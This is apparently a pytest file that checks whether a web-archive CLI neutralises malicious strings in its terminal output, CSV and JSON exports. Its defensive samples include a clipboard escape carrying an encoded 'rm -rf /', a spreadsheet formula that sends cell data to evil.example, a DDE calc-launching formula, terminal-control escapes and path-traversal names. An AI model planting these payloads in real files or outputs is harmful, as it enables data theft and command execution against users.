"""Strings that break software, in every field: no output is obeyed by a terminal or a spreadsheet, and none loses them.

The public list lies in ../shared/corpora; what it lacks is added here, so that the tests hold without it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
import unicodedata
from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from archive.collection import Collection
from archive.jobs import JobRecord
from archive.model import instant
from archive.text import normalise, one_line, storable
from archive.urlkey import safe_uri
from tests.archive.catalogs import article, at, capture, full_of
from tests.end_to_end import SHARED, environment, pressmark, rows

PUBLIC = SHARED / "corpora" / "naughty_strings.json"
OWN = [
    "\x1b]0;owned\x07title of the window",
    "\x1b]52;c;cm0gLXJmIC8=\x1b\\clipboard",
    "\x9b31mred by one byte\x9b0m",
    "\x9d0;title by one byte\x9c",
    "\x1b[2J\x1b[Hcleared",
    "back\x08\x08\x08space, bell\x07, delete\x7f",
    "turned \u202egnp.exe\u202c around \u2066isolated\u2069",
    "tag \U000e0041\U000e0042 and private \ue000",
    "[red]markup of rich[/red] [link=file:///etc/passwd]x[/link]",
    '=HYPERLINK("http://evil.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x1b=1+1",
    "\uff1d1+1",
    "   =1+1",
    'quotes " and, commas; and\ttabs',
    "lone surrogate \udcff",
]
NAUGHTY: list[str] = OWN + (json.loads(PUBLIC.read_text(encoding="utf-8")) if PUBLIC.exists() else [])
ALL_IN_ONE = "http://all.example/story"
SHOWN = "\n\t\u200c\u200d"
"""Controls that are shown as they are: joiners make a terminal do nothing."""

FORMULAS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")

MARK = "\n=== the next command ===\n"


def test_the_public_list_is_there() -> None:
    """Of the public list all 515 are tried, where it is there at all."""
    if not PUBLIC.exists():
        pytest.skip("needs ../shared/corpora/naughty_strings.json")
    assert len(NAUGHTY) == len(OWN) + 515


def url_of(number: int) -> str:
    """A URL with the string in its path, told from all others by its host."""
    return safe_uri(f"http://n{number}.example/2026/11/24/{NAUGHTY[number]}")


@pytest.fixture(scope="module")
def kept(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalog with each string in every field of an article, of a capture, of evidence and of a job."""
    collection = Collection.create(tmp_path_factory.mktemp("naughty") / "kept", site_of=lambda _: "")
    with collection.catalog(reader_id="test") as catalog:
        for number, text in enumerate(NAUGHTY):
            where = {"via": text, "job": text, "mime": text, "site": text, "warc": storable(text), "ip": storable(text)}
            found = capture(url_of(number), captured_at=at(number), **where)
            full = full_of([text], f"{text} in story {number}")
            catalog.add(found, replace(full, canonical_url=f"{url_of(number)}{storable(text)}"))
            catalog.add(capture(ALL_IN_ONE, captured_at=at(number)), article(text, f"Text {number}"))
            failed = {"kind": "failure", "outcome": "connect", "error": text, "site": text}
            catalog.add(capture(f"http://f{number}.example/", captured_at=at(number), **failed), None)
            catalog.add_job_record(_job(number, text))
        last = capture(ALL_IN_ONE, captured_at=at(len(NAUGHTY)))
        catalog.add(last, full_of(NAUGHTY, "\n\n".join(NAUGHTY)))
        catalog.commit({})
    return collection.path


def _job(number: int, text: str) -> JobRecord:
    return JobRecord(
        record_id=f"urn:example:{number}",
        job=text,
        kind="opening",
        at=instant(at(number)),
        sites=(text,),
        software=text,
        warc="one.warc.gz",
        offset=number,
    )


DRIVER = """
import json, sys
from crawler.cli.app import main

codes = []
for words in json.loads(sys.stdin.read()):
    sys.argv = ["pressmark", *words]
    print("\\n=== the next command ===", flush=True)
    try:
        main()
    except SystemExit as end:
        codes.append(end.code or 0)
    sys.stdout.flush()
open("codes", "w").write(json.dumps(codes))
"""
"""Runs many commands, one after the other, as `pressmark` runs one: to start it costs more than most of them do."""


def on_terminal(commands: list[list[str]], folder: Path) -> tuple[str, list[int]]:
    """All that commands show on a terminal, and their exit codes."""
    ours, theirs = pty.openpty()
    shown = bytearray()
    with _started(folder, stdout=theirs, stderr=theirs) as running:
        os.close(theirs)
        _ask(running, commands)
        with suppress(OSError):  # EIO: nobody has the terminal open any more
            while part := os.read(ours, 65536):
                shown += part
    os.close(ours)
    return shown.decode(), json.loads((folder / "codes").read_text())


def in_pipes(commands: list[list[str]], folder: Path) -> tuple[list[str], str, list[int]]:
    """What each of these commands prints on stdout, what all of them say on stderr, and their exit codes."""
    with _started(folder, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as running:
        out, err = running.communicate(json.dumps(commands).encode(), timeout=120)
    return out.decode().split(MARK)[1:], err.decode(), json.loads((folder / "codes").read_text())


def _started(folder: Path, **streams: int) -> subprocess.Popen[bytes]:
    # TERM=dumb: no colours of our own, so that whatever escape comes out is a string's
    command = [sys.executable, "-c", DRIVER]
    return subprocess.Popen(command, cwd=folder, env=environment(TERM="dumb"), stdin=subprocess.PIPE, **streams)


def _ask(running: subprocess.Popen[bytes], commands: list[list[str]]) -> None:
    assert running.stdin is not None
    running.stdin.write(json.dumps(commands).encode())
    running.stdin.close()


def obeyed(shown: str) -> set[str]:
    """The characters of an output that a terminal obeys; those that end a line are the terminal's own."""
    shown = re.sub("\r+\n", "\n", shown)
    return {repr(c) for c in set(shown) if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co") and c not in SHOWN}


LISTINGS = [
    *(["search", "--limit", "9999", "--format", form] for form in ("table", "json", "jsonl", "csv")),
    ["search", "story", "--limit", "9999", "--json"],
    ["export", "-o", "-", "--format", "csv"],
    ["export", "-o", "-", "--format", "jsonl"],
    ["status"],
    ["status", "--json"],
    ["show", ALL_IN_ONE, "--evidence"],
    ["show", ALL_IN_ONE, "--evidence", "--json"],
    ["show", ALL_IN_ONE, "--cite", "bibtex"],
    ["show", ALL_IN_ONE, "--cite", "csl"],
]


@pytest.mark.fault(56)
def test_on_a_terminal(kept: Path) -> None:
    """Whatever the command and its format, nothing that a string holds is obeyed by the terminal that shows it."""
    articles = [["show", url_of(number)] for number in range(len(OWN))]
    commands = [[*words, "-c", str(kept)] for words in (*LISTINGS, *articles)]
    shown, codes = on_terminal(commands, kept.parent)

    assert codes == [0] * len(commands)
    assert obeyed(shown) == set()
    assert shown.count("title of the window") > len(LISTINGS)


@pytest.mark.fault(56)
def test_as_words_of_a_command(kept: Path) -> None:
    """As a query, an id, a site or the name of a collection a string is found or refused, and is no bug."""
    words = [text for text in (*OWN, *NAUGHTY[len(OWN) :: 60]) if _can_be_said(text)]
    asked = [["search", "-c", str(kept), "--", text] for text in words]
    named = [["show", "-c", str(kept), "--", text] for text in words]
    sites = [["search", "-c", str(kept), f"--site={text}"] for text in words]
    collections = [["status", f"--collection=./{text}"] for text in words]
    shown, codes = on_terminal([*asked, *named, *sites, *collections], kept.parent)

    assert set(codes) == {0, 2}
    assert obeyed(shown) == set()
    assert re.findall("Traceback|a bug in", shown) == []


def _can_be_said(text: str) -> bool:
    """Whether it can be a word of a command line at all."""
    with suppress(UnicodeEncodeError):
        return "\0" not in text and bool(text.encode())
    return False


@pytest.fixture(scope="module")
def printed(kept: Path) -> dict[str, str]:
    """What each listing prints into a pipe."""
    outs, err, codes = in_pipes([[*words, "-c", str(kept)] for words in LISTINGS], kept.parent)

    assert set(codes) == {0}
    assert obeyed(err) == set()
    return {" ".join(words): out for words, out in zip(LISTINGS, outs, strict=True)}


def headlines(kept: Path) -> list[str]:
    """As the catalog has them."""
    return sorted(headline for (headline,) in rows(kept / "catalog.db", "select headline from articles"))


def test_stored_as_they_are(kept: Path) -> None:
    """The catalog holds each string as it is, white space folded and lone surrogates replaced."""
    expected = sorted(one_line(text) for text in (*NAUGHTY, " ".join(NAUGHTY)))
    bodies = {body for (body,) in rows(kept / "catalog.db", "select body from articles")}

    assert headlines(kept) == expected
    assert {normalise(f"{text} in story {number}") for number, text in enumerate(NAUGHTY)} <= bodies


@pytest.mark.fault(56)
def test_json_is_read_back(kept: Path, printed: dict[str, str]) -> None:
    """JSON and JSON Lines are read back as what the catalog holds, whichever command they come from."""
    hits = json.loads(printed["search --limit 9999 --format json"])["hits"]
    lines = [json.loads(line) for line in printed["search --limit 9999 --format jsonl"].strip().split("\n")]
    found = json.loads(printed["search story --limit 9999 --json"])["hits"]
    shown = json.loads(printed[f"show {ALL_IN_ONE} --evidence --json"])
    status = json.loads(printed["status --json"])
    sites = {site for (site,) in rows(kept / "catalog.db", "select distinct site from captures")}

    assert sorted(hit["headline"] for hit in hits) == sorted(line["headline"] for line in lines) == headlines(kept)
    assert len(found) == len(NAUGHTY)
    assert {one_line(text) for text in NAUGHTY} < {revision["headline"] for revision in shown["revisions"]}
    assert shown["article"]["authors"] == [storable(text) for text in NAUGHTY]
    assert {site["site"] for site in status["sites"]} == sites


@pytest.mark.fault(56)
@pytest.mark.parametrize("command", ["search --limit 9999 --format csv", "export -o - --format csv"])
def test_no_formula_in_csv(command: str, kept: Path, printed: dict[str, str]) -> None:
    """CSV has a row for each article, and no cell that a spreadsheet would compute or a terminal obey."""
    table = list(csv.reader(io.StringIO(printed[command].strip("\n"))))
    cells = {cell for row in table for cell in row}

    assert (len(table), {len(row) for row in table}) == (len(headlines(kept)) + 1, {len(table[0])})
    assert [cell for cell in cells if cell.lstrip().startswith(FORMULAS)] == []
    assert "'=cmd|' /C calc'!A0" in cells
    assert obeyed("".join(cells)) == set()


def test_exported_json_is_read_back(kept: Path, printed: dict[str, str]) -> None:
    """Exported JSON Lines hold the headlines as the catalog does."""
    exported = [json.loads(line) for line in printed["export -o - --format jsonl"].strip().split("\n")]

    assert sorted(row.get("headline", "") for row in exported) == headlines(kept)


@pytest.mark.parametrize("name", ["../evil", "/tmp/evil", "a/b", "..", ".hidden", "new\nline", "esc\x1b[2J", "a b"])
def test_names_of_new_sites(name: str, tmp_path: Path) -> None:
    """A name that would be a path, or obeyed by a terminal, is refused before anything is fetched or written."""
    ran = pressmark("sites", "new", "http://127.0.0.1:9/", "--name", name, cwd=tmp_path)

    assert (ran.code, list(tmp_path.iterdir())) == (2, [])
    assert "letters, digits" in ran.err
    assert obeyed(ran.err) == set()


@pytest.mark.parametrize("name", ["new\nline", "esc\x1b[2J", "tab\t", "one\x9bbyte", "lone\udcff", ".hidden"])
@pytest.mark.fault(99)
def test_names_of_imported_files(name: str, tmp_path: Path) -> None:
    """A file whose name would break a line of MANIFEST, or is obeyed by a terminal, is refused and says why."""
    (tmp_path / f"{name}.warc").write_bytes(b"WARC/1.0\r\nWARC-Type: warcinfo\r\nContent-Length: 0\r\n\r\n\r\n\r\n")
    shown, codes = on_terminal([["import", f"./{name}.warc", "-c", "./kept"]], tmp_path)

    assert codes == [2]
    assert "is no name for a file in a collection" in shown.replace("\r\n", "")
    assert obeyed(shown) == set()
    assert not (tmp_path / "kept").exists()
